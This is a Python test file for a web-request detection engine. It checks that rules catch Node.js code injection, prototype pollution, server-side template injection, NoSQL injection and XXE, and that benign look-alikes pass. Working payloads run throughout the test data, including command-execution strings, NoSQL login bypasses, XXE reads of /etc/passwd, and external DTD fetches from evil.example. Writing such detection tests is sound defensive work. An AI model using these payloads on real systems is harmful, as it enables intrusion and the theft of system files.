"""Node.js (934100/934101/934105/934130/934160), SSTI (934180-934183), NoSQL injection
(945xxx) and XXE (946xxx).

The rules' own examples, then whole requests through the engine (payload in a query
parameter, a header or cookie, a JSON body, an XML body) and the ASGI middleware,
then benign look-alikes: template placeholders, JSON documents, plain XML.
"""

from __future__ import annotations

from typing import Any

import pytest
from detect_harness import Req, asgi_signals, engine_signals, fired, rule_examples, types

from devsecmw.engine.rules import Rule


def xml(body: str, content_type: str = "application/xml") -> Req:
    return Req("/api/xml", "POST", body=body.encode(), content_type=content_type)


# --------------------------------------------------------------------------- rule examples
@pytest.mark.parametrize(
    ("rule", "example", "should_match"),
    rule_examples("934-nodejs.json", "934-ssti.json", "945-nosqli.json", "946-xxe.json"),
)
def test_rule_examples(rule: Rule, example: str, should_match: bool) -> None:
    assert (rule.matches_value(example) is not None) is should_match


# --------------------------------------------------------------------------- Node.js
NODEJS_CASES = [
    (Req.query("foo", "require('child_process').exec('id')"), "query:foo", "934100"),
    (Req.query("foo", "_$$ND_FUNC$$_function(){require('x')}()"), "query:foo", "934100"),
    (Req.header("cookie", "profile=XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK"), "cookie:profile", "934105"),
    (Req.query("__proto__[isAdmin]", "true"), "query:__proto__[isAdmin]", "934130"),
    (Req.query("a[constructor][prototype][x]", "1"), "query:a[constructor][prototype][x]", "934130"),
    (Req.json_body({"title": {"__proto__": {"polluted": 1}}}), "body:json:title.__proto__", "934130"),
    (Req.header("cookie", "c=__\\u0070\\u0072oto__.foo=bar"), "cookie:c", "934130"),
    (Req.json_body({"expr": "this.constructor.constructor('return process')()"}), "body:json:expr", "934100"),
    (Req.form("code", "while(true){}"), "body:form:code", "934160"),
    (xml('<?xml version="1.0"?><root><a probe="_$$ND_FUNC$$_"></a></root>'), "body", "934100"),
]


@pytest.mark.parametrize(("req", "location", "rule_id"), NODEJS_CASES)
def test_nodejs_detected(req: Req, location: str, rule_id: str) -> None:
    assert ("nodejs", location, rule_id) in fired(engine_signals(req))


def test_generic_javascript_only_at_paranoia_2() -> None:
    req = Req.query("foo", "console.info(1)")
    assert "nodejs" not in types(engine_signals(req))
    assert ("nodejs", "query:foo", "934101") in fired(engine_signals(req, paranoia=2))


# --------------------------------------------------------------------------- SSTI
SSTI_CASES = [
    (Req.query("name", "{{7*7}}"), "query:name", "934180"),
    (Req.query("name", "{{''.__class__.__mro__[1].__subclasses__()}}"), "query:name", "934180"),
    (Req.form("q", "{{request|attr('\\x5f\\x5fclass\\x5f\\x5f')}}"), "body:form:q", "934180"),
    (
        Req.json_body({"q": "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}"}),
        "body:json:q",
        "934181",
    ),
    (
        Req.query("t", "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}"),
        "query:t",
        "934181",
    ),
    (Req.query("t", "#set($x=$class.inspect('java.lang.Runtime'))"), "query:t", "934181"),
    (Req.query("t", "<%= system('id') %>"), "query:t", "934181"),
    (Req.query("t", "{$smarty.version}"), "query:t", "934181"),
    (Req.query("t", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"), "query:t", "934181"),
    (Req.query("t", "${7*7}"), "query:t", "934182"),
    (Req.query("t", "#{7*7}"), "query:t", "934182"),
    (Req.json_body({"q": "${self.module.cache.util.os.system('id')}"}), "body:json:q", "934182"),
    (Req.header("user-agent", "{{config.items()}}"), "header:user-agent", "934180"),
    (Req.path("/hello/{{7*7}}"), "path", "934180"),
]


@pytest.mark.parametrize(("req", "location", "rule_id"), SSTI_CASES)
def test_ssti_detected(req: Req, location: str, rule_id: str) -> None:
    assert ("ssti", location, rule_id) in fired(engine_signals(req))


# --------------------------------------------------------------------------- NoSQL injection
NOSQLI_CASES = [
    (Req("/login?user=admin&password[$ne]=x"), "query:password[$ne]", "945100"),
    (Req.form("username[$regex]", "^adm"), "body:form:username[$regex]", "945100"),
    (Req.json_body({"username": "admin", "password": {"$gt": ""}}), "body:json:password.$gt", "945100"),
    (Req.query("q", "1, $where: '1 == 1'"), "query:q", "945110"),
    (Req.query("q", "' && this.password.match(/.*/)//"), "query:q", "945110"),
    (Req.query("q", "';return true;var x='"), "query:q", "945110"),
    (Req.query("q", "';sleep(5000);'"), "query:q", "945110"),
    (Req.query("q", '{"$gt": ""}'), "query:q", "945110"),
]


@pytest.mark.parametrize(("req", "location", "rule_id"), NOSQLI_CASES)
def test_nosqli_detected(req: Req, location: str, rule_id: str) -> None:
    assert ("nosqli", location, rule_id) in fired(engine_signals(req))


# --------------------------------------------------------------------------- XXE
XXE_DOC = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'

XXE_CASES = [
    (xml(XXE_DOC), "body", "946100"),
    (xml(XXE_DOC, "text/xml; charset=utf-8"), "body", "946100"),
    (xml(XXE_DOC, "application/soap+xml"), "body", "946100"),
    (Req("/api/xml", "POST", body=XXE_DOC.encode()), "body", "946100"),  # sniffed, no Content-Type
    (xml('<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><r/>'), "body", "946100"),
    (xml('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'), "body", "946100"),
    (
        xml('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r>'),
        "body",
        "946110",
    ),
    (Req.form("xml", XXE_DOC), "body:form:xml", "946100"),
    (
        Req("/api/xml", "POST", body=XXE_DOC.encode("utf-16"), content_type="application/xml"),
        "body",
        "946100",
    ),
]


@pytest.mark.parametrize(("req", "location", "rule_id"), XXE_CASES)
def test_xxe_detected(req: Req, location: str, rule_id: str) -> None:
    assert ("xxe", location, rule_id) in fired(engine_signals(req))


# --------------------------------------------------------------------------- middleware
@pytest.mark.parametrize(
    ("req", "type_", "location", "rule_id"),
    [
        (xml(XXE_DOC), "xxe", "body", "946100"),
        (Req.json_body({"q": "{{7*7}}"}), "ssti", "body:json:q", "934180"),
        (Req.json_body({"user": {"$ne": None}}), "nosqli", "body:json:user.$ne", "945100"),
        (Req.query("__proto__[x]", "1"), "nodejs", "query:__proto__[x]", "934130"),
    ],
)
def test_through_the_asgi_middleware(req: Req, type_: str, location: str, rule_id: str, otel: Any) -> None:
    events = asgi_signals(req, otel)
    hits = {
        (e["devsecmw.signal.type"], e["devsecmw.signal.location"], e.get("security_rule.uuid"))
        for e in events
    }
    assert (type_, location, rule_id) in hits


# --------------------------------------------------------------------------- benign look-alikes
BENIGN = [
    Req.json_body({"subject": "Hello {{ first_name }}", "body": "Your order {{ order.number }} shipped"}),
    Req.query("q", "{{ name }}"),
    Req.json_body({"price": 5, "filter": {"category": "books", "in_stock": True}, "$schema": "x"}),
    Req("/api/items?$filter=price%20gt%205&$top=10&$search=blue"),  # OData
    Req.json_body(
        {
            "query": "query Search($q: String, $size: Int, $in: [ID!]) { search(q: $q, size: $size) { id } }",
            "variables": {"q": "shoes", "size": 10},
        }
    ),
    Req.form("code", "if (a || b == c) { total = price * 2 }"),
    Req.query("q", "prototype design review with the constructor"),
    Req.query("q", "child process of the parent"),
    Req.form("comment", "while you wait, this is fine; return policy is 30 days"),
    Req.query("color", "#{$primary}"),
    Req.query("q", "100% sure {1-2} days"),
    Req.form("message", "Meet at 10, {name} will bring {food}"),
    xml('<?xml version="1.0" encoding="UTF-8"?><order><id>12</id><note>Leave &amp; go</note></order>'),
    xml("<!DOCTYPE html><html><body>hi</body></html>", "text/html"),
    xml(
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    xml(
        '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
        "<soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>",
        "application/soap+xml",
    ),
]


@pytest.mark.parametrize("req", BENIGN)
def test_benign_look_alikes_pass(req: Req) -> None:
    assert not types(engine_signals(req)) & {"nodejs", "ssti", "nosqli", "xxe"}
